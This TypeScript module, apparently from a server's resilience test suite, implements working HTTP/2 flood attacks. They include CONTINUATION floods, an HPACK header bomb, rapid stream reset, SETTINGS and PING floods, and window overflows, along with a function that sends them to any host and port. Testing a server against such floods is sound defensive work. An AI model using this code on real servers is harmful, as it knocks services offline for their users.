/**
 * Floods: what a peer does to an HTTP/2 server that costs itself nearly nothing, each for a
 * while on a connection of its own, as fast as it is taken: header blocks without end,
 * headers that unpack to a thousand times their size, questions whose answers it does not
 * read, calls that it opens and never ends, windows that run over.
 */
import { connect } from "node:net";
import { CANCEL, type Door, frame, headers, pathOf, START } from "./frames.ts";

export type Flood = (door: Door) => { first: Buffer; again: (turn: number) => Buffer; reads?: boolean };

const NONE = Buffer.alloc(0);
const HEADERS = 1;
const END_HEADERS = 4;
const END_BOTH = 5;
const CONTINUATION = 9;
const BLOCK_BYTES = 16_000; // As much as one frame may have.
const AT_ONCE = 100; // Frames that are written together.

const call = (door: Door) =>
  headers({ path: pathOf("HostService.ListSchedules"), token: door.token, authority: true });
const many = (make: (index: number) => Buffer) =>
  Buffer.concat(Array.from({ length: AT_ONCE }, (_, index) => make(index)));
const word = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
/** The numbers of calls: odd, and each once. */
const streamOf = (turn: number, index: number) => 3 + 2 * (turn * AT_ONCE + index);

/** By name: what is sent once, and what again and again. */
export const FLOODS: Readonly<Record<string, Flood>> = {
  "a block of headers that never ends": (door) => ({
    first: frame(HEADERS, 0, 1, call(door)),
    again: () => many(() => frame(CONTINUATION, 0, 1, literal("x", "y".repeat(100)))),
  }),
  "empty pieces of a block of headers": (door) => ({
    first: frame(HEADERS, 0, 1, call(door)),
    again: () => many(() => frame(CONTINUATION, 0, 1, NONE)),
  }),
  "headers that unpack to a thousand times their size": (door) => ({
    // The first enters the table with 4,000 bytes, and each byte of the others is that again.
    first: frame(HEADERS, END_BOTH, 1, Buffer.concat([call(door), indexed("x", "y".repeat(4_000))])),
    again: (turn) =>
      frame(
        HEADERS,
        END_BOTH,
        streamOf(turn, 0),
        Buffer.concat([call(door), Buffer.alloc(BLOCK_BYTES, 0xbe)]),
      ),
  }),
  "calls that are taken back at once": (door) => ({
    first: NONE,
    again: (turn) =>
      many((index) =>
        Buffer.concat([
          frame(HEADERS, END_HEADERS, streamOf(turn, index), call(door)),
          frame(3, 0, streamOf(turn, index), CANCEL),
        ]),
      ),
  }),
  "calls that never end": (door) => ({
    first: NONE,
    again: (turn) => many((index) => frame(HEADERS, END_HEADERS, streamOf(turn, index), call(door))),
  }),
  "settings whose answers are not read": () => ({
    first: NONE,
    again: () => many(() => frame(4, 0, 0, Buffer.concat([Buffer.from([0, 4]), word(65_535)]))),
    reads: false,
  }),
  "echoes that are not read": () => ({
    first: NONE,
    again: () => many(() => frame(6, 0, 0, Buffer.alloc(8))),
    reads: false,
  }),
  "answers that are not read": (door) => ({
    first: NONE,
    again: (turn) =>
      many((index) =>
        Buffer.concat([
          frame(HEADERS, END_HEADERS, streamOf(turn, index), call(door)),
          frame(0, 1, streamOf(turn, index), Buffer.alloc(5)),
        ]),
      ),
    reads: false,
  }),
  "windows that run over": (door) => ({
    first: frame(HEADERS, END_HEADERS, 1, call(door)),
    again: () => many((index) => frame(8, 0, index % 2, word(0x7fff_ffff))),
  }),
  "windows of nothing": (door) => ({
    first: frame(HEADERS, END_HEADERS, 1, call(door)),
    again: () => many(() => frame(8, 0, 1, word(0))),
  }),
  "data for calls that are over, or were never there": (door) => ({
    first: frame(HEADERS, END_BOTH, 1, call(door)),
    again: () => many((index) => frame(0, 0, 1 + 2 * (index % 2) * 500, Buffer.alloc(1_000))),
  }),
  "empty data": (door) => ({
    first: frame(HEADERS, END_HEADERS, 1, call(door)),
    again: () => many(() => frame(0, 0, 1, NONE)),
  }),
  "ranks that go in a circle": () => ({
    first: NONE,
    again: (turn) =>
      many((index) =>
        frame(2, 0, streamOf(turn, index), Buffer.concat([word(streamOf(turn, index)), Buffer.from([255])])),
      ),
  }),
};

/** Sends a flood for so long, or until the host ends the connection. Resolves with how many bytes it took. */
export async function pour(flood: Flood, door: Door, forMs: number): Promise<number> {
  const { first, again, reads = true } = flood(door);
  const socket = connect({ host: door.host, port: door.port });
  const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
  socket.on("error", () => {});
  if (reads) socket.resume();
  const until = performance.now() + forMs;
  const over = Bun.sleep(forMs);
  socket.write(Buffer.concat([...START, first]));
  for (let turn = 0; performance.now() < until && !socket.destroyed; turn++) {
    if (!socket.write(again(turn)))
      await Promise.race([new Promise((resolve) => socket.once("drain", resolve)), closed, over]);
    else await Bun.sleep(0); // For whoever looks on.
  }
  const { bytesWritten } = socket;
  socket.destroy();
  return bytesWritten;
}

function text(value: string): Buffer {
  const { length } = value;
  const head = length < 127 ? [length] : [127, ((length - 127) & 127) | 128, (length - 127) >> 7];
  return Buffer.concat([Buffer.from(head), Buffer.from(value)]);
}

/** A header that enters no table. */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
}

/** A header that enters the table, where its number is 62 from then on. */
function indexed(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0x40]), text(name), text(value)]);
}
